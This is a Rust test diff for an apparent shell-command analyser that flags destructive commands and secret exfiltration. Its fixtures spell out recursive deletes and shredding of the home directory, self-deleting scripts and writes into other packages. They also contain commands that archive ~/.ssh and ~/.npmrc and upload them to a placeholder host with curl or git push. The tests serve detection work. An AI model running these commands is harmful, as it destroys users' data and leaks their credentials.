@@ -178,3 +178,63 @@ fn hidden_commands_are_found() {
             .is_empty()
     );
 }
+
+#[test]
+fn removals_and_neighbours_are_told() {
+    use weir_model::contents::CapabilityKind::*;
+    for (command, kind) in [
+        ("rm -rf --no-preserve-root /x/y", Some(RemovesHome)),
+        ("rm -rf \"$HOME/work/\"*", Some(RemovesHome)),
+        ("del /F /Q /S \"%USERPROFILE%\\work\\*\"", Some(RemovesHome)),
+        (
+            "find \"$HOME/work\" -type d -empty -delete",
+            Some(RemovesHome),
+        ),
+        (
+            "find ~ -type f -print0 | xargs -0 -r shred -uvz -n 1",
+            Some(RemovesHome),
+        ),
+        ("cipher /W:C:\\x", Some(RemovesHome)),
+        ("find build -name '*.map' -delete", Some(Removes)),
+        ("rm -rf ~/.cache/tool", Some(Removes)),
+        ("rm -f -- \"$0\"", Some(RemovesItself)),
+        ("cp hook.js ../other/lib/index.js", Some(WritesPackages)),
+        ("sed -i 1ix ../other/lib/main.js", Some(WritesPackages)),
+        ("mv package.clean package.json", Some(WritesPackages)),
+        ("cp a.js dist/b.js", None),
+        ("sed -n 1p ../other/lib/main.js", None),
+        ("wscript x.vbs", Some(DetachedProcess)),
+    ] {
+        let kinds: Vec<_> = plain(command).acts.iter().map(|act| act.kind).collect();
+        match kind {
+            Some(kind) => assert!(kinds.contains(&kind), "{command}: {kinds:?}"),
+            None => assert!(kinds.is_empty(), "{command}: {kinds:?}"),
+        }
+    }
+}
+
+#[test]
+fn packed_secrets_are_followed() {
+    for (command, leaks) in [
+        (
+            "tar czf \"$out\" ~/.ssh ~/.npmrc; curl -F \"f=@$out\" https://a.example/up",
+            true,
+        ),
+        (
+            "cp ~/.npmrc .; git add -A; git push https://a.example/x.git",
+            true,
+        ),
+        ("cat ~/.npmrc > n; curl -T n https://a.example/", true),
+        (
+            "tar czf out.tgz dist; curl -T out.tgz https://a.example/",
+            false,
+        ),
+        ("git push https://a.example/x.git", false),
+        (
+            "tar czf keys.tgz ~/.ssh; curl -T out.tgz https://a.example/",
+            false,
+        ),
+    ] {
+        assert_eq!(!plain(command).leaks.is_empty(), leaks, "{command}");
+    }
+}
